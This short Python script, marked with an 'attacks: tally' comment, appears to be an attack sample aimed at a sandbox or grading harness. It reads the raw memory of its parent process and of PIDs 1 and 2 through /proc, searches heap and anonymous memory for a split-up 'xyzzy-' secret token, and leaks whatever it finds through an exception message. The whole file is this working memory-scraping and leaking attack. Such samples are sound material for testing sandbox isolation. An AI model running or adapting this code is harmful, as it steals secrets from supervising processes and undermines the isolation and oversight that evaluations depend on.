"""Reads the memory of the process that started it, and searches it."""

# attacks: tally

import os


def main(numbers):
    found = []
    for pid in (1, 2, os.getppid()):
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                    if "[heap]" in line or "rw-p 00000000 00:00 0" in line:
                        memory.seek(begin)
                        data = memory.read(min(end - begin, 16 << 20))
                        at = data.find(b"xyz" + b"zy-")
                        if at >= 0:
                            found.append(data[at : at + 60].decode("latin-1"))
        except (OSError, OverflowError):
            pass
    raise RuntimeError("".join(found) or "nothing")
